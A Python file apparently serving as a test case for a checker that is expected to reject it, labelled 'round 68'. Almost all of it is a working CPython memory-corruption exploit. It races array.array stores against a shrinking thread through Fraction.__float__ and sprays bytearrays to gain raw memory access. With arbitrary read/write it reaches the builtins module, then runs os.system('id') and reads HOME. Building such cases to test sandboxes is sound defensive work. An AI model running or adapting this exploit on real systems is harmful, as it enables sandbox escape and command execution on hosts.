# expect: reject memory
# line: 4
# why: round 68: array.array's store converts after fixing where it writes; Fraction's __float__ (Python) gave another thread time to shrink the array, and the pending write set a sprayed bytearray's size (raw memory, builtins, id); array and threads are not imported together
import array
import fractions
import sys
import threading
import time

N = 48
arr = array.array("d", [0.0] * N)
spray = [bytearray() for _ in range(6000)]
by_id = {}
for b in spray:
    by_id[id(b)] = b
for k in range(0, 6000, 7):
    del by_id[id(spray[k])]
    spray[k] = None
state = {"cand": None, "done": False, "small": False, "next": 3}
one = fractions.Fraction(1)


def shrinker():
    while not state["done"]:
        time.sleep(0.0005)
        if state["small"]:
            state["cand"] = None
            state["small"] = False
            arr.extend([0.0] * (N - len(arr)))
            continue
        del arr[1:]
        base = arr.buffer_info()[0]
        found = by_id.get(base + 64)
        if found is None:
            arr.extend([0.0] * (N - len(arr)))
            j = state["next"]
            state["next"] = (j + 11) % 6000
            if spray[j] is not None:
                del by_id[id(spray[j])]
                spray[j] = None
        else:
            state["cand"] = found
            state["small"] = True


worker = threading.Thread(target=shrinker, daemon=True)
worker.start()
mem = None
rounds = 0
while mem is None and rounds < 50000000:
    rounds += 1
    try:
        arr[10] = one
    except IndexError:
        pass
    cand = state["cand"]
    if cand is not None and len(cand) > 1000:
        mem = cand
state["done"] = True
print("rounds", rounds, "victim len", len(mem) if mem is not None else None)


def read8(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def write8(addr, value):
    mem[addr:addr + 8] = value.to_bytes(8, "little")


bmod = read8(id(print) + 24)
box = [None]
items = read8(id(box) + 24)
write8(bmod, read8(bmod) + 1)
write8(items, bmod)
m = box[0]
print(m)
m.exec("import os; os.system('id'); print(os.environ['HOME'])")
sys.stdout.flush()
m.exec("import os; os._exit(0)")
